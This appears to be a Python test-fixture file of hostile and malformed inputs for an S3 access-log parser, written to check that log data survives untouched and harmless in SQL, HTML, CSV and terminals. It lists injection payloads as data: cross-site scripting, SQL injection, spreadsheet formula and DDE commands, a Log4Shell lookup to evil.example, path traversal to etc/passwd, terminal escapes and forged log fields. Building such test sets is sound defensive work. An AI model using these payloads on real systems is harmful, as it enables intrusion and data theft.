"""Texts that strangers put into requests, and lines that cannot be trusted.

The first kind is hostile but unambiguous: a quotation mark inside a field is never followed by a
blank (or only by ` HTTP/`), so no field looks like two. The marts must return it unchanged, and it
must do no harm in SQL, HTML, CSV or on a terminal.
"""

from __future__ import annotations

from urllib.parse import unquote

USER_AGENTS: tuple[str, ...] = (
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5) AppleWebKit/605.1.15 Version/17.5 Safari/604.1"',
    "\x1b[2J\x1b[31mpwned\x1b[0m scanner/1.0",
    "\x1b]0;owned\x07curl/8.4.0",
    "<script>alert('ua')</script>",
    '<img src="x"onerror="alert(1)">',
    "'; DROP TABLE fct_object_requests; --",
    "' UNION SELECT null, null FROM information_schema.tables --",
    '=HYPERLINK("http://evil.example/","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "Nikto\t2.5.0\tEvasions:None",
    "\u202ecod.exe\u202c",
    "bot\u2028next line\u2029paragraph",
    "\x0cform\x0bfeed\x1cfile\x1dgroup\x85nel",
    "a" * 2000,
    "日本語ブラウザ/1.0 (Ünïcødé; 🦊)",
    "${jndi:ldap://evil.example/a}",
    "{{ 7*7 }} {% raw %} %s %(x)s %n",
    '\\N \\\\ \\x41 \\u0041 \\"',
    "-",
    "",
)

# A presigned URL holds one, and the access log holds the URL
SECURITY_TOKEN = "IQoJb3JpZ2luX2VjEHcaCXVzLWVhc3QtMSJHMEUCIQDsecret%2Ftoken%3D%3D"

REFERRERS: tuple[str, ...] = (
    "https://search.example/?q=annual report 2026",
    'https://evil.example/?q=<script>alert("xss")</script>',
    "javascript:alert(document.cookie)",
    "https://evil.example/\x1b[1A\x1b[2Koverwritten",
    "=cmd|' /C calc'!A0",
    "' OR '1'='1",
)

# (request line as sent, key as S3 understood it)
REQUEST_LINES: tuple[tuple[str, str], ...] = (
    ('GET /wp-admin/"x".php HTTP/1.1', 'wp-admin/"x".php'),
    ('GET /" HTTP/1.1', '"'),
    ("GET /index.php?id=1'%20OR%20'1'='1 HTTP/1.1", "index.php"),
    ("GET /<script>alert(1)</script> HTTP/1.1", "<script>alert(1)</script>"),
    ("GET /..%2f..%2fetc/passwd HTTP/1.1", "../../etc/passwd"),
    ("GET /%1b%5b31mred HTTP/1.0", "\x1b[31mred"),
    ("GET /=HYPERLINK(%22http://evil.example%22) HTTP/1.1", '=HYPERLINK("http://evil.example")'),
    ("GET /100%25%20sure.txt HTTP/1.1", "100% sure.txt"),
    ("GET /a%2520b HTTP/1.1", "a%20b"),
    # a presigned URL, pasted where a key belongs
    (
        f"GET /k%3FX-Amz-Security-Token%3D{SECURITY_TOKEN}%26X-Amz-Signature%3D{'0f' * 32} HTTP/1.1",
        f"k?X-Amz-Security-Token={unquote(SECURITY_TOKEN)}&X-Amz-Signature={'0f' * 32}",
    ),
    ("GET /" + "A" * 900 + " HTTP/1.1", "A" * 900),
)

# Keys that a parser could decode once too often, and keys that quote, split or hide text.
KEYS: tuple[str, ...] = (
    "annual report 2026.pdf",
    "100%25 literal.txt",
    "50%.csv",
    "plus+sign and space.txt",
    'say "hello".txt',
    "naïve/日本語/🦊.txt",
    "tabs\tand\x1b[31mcolour.txt",
    "=SUM(A1:A9).csv",
    "a=b,c=d/*@~[1](2).json",
    "<b>bold</b>.html",
    "it's; DROP TABLE x --.sql",
    "trailing/slash/",
    "back\\slash.txt",
)


def forged_fields(host_id: str) -> tuple[tuple[str, str, str], ...]:
    """Return (request line, referrer, user agent) of requests that forge further fields."""
    tail = "SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader h.example TLSv1.2 - - us-east-1"
    return (
        ("GET /login HTTP/1.1", "-", f'Mozilla/5.0" - {host_id} {tail} "x'),
        ('GET /x HTTP/1.1" 200 - 9 9 9 9 "-" "y HTTP/1.1', "-", "curl/8.4.0"),
        ("GET /admin HTTP/1.1", 'https://a.example/" 200 - 1 1 1 1 "-" "z', "curl/8.4.0"),
    )


def rubbish() -> tuple[str, ...]:
    """Return lines that are no records: valid UTF-8 without line ends, so that bytes add up."""
    return (
        "".join(chr(1 + (n * 37) % 8) + chr(0x250 + (n * 91) % 500) for n in range(120)),
        "\x7fELF\x02\x01\x01" + "\x01" * 40 + "\x1f\x08 \x03",
    )
